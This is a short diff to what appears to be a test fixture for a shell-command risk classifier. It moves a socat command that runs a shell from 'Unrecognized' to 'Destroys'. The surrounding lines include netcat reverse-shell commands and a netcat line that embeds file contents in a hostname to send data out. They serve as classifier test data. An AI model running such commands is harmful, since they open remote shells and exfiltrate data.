@@ -132,7 +132,7 @@ ModifiesRemote: nc -l 8080
 Destroys: nc -e /bin/sh example.com 4444
 Destroys: nc -z -e /bin/sh example.com 4444
 Unrecognized: nc -z "$(cat a).example.com" 80
-Unrecognized: socat TCP:example.com:80 EXEC:sh
+Destroys: socat TCP:example.com:80 EXEC:sh
 ModifiesRemote: telnet example.com 25
 ReadsRemote: tailscale status
 ReadsRemote: tailscale ping --c 1 web
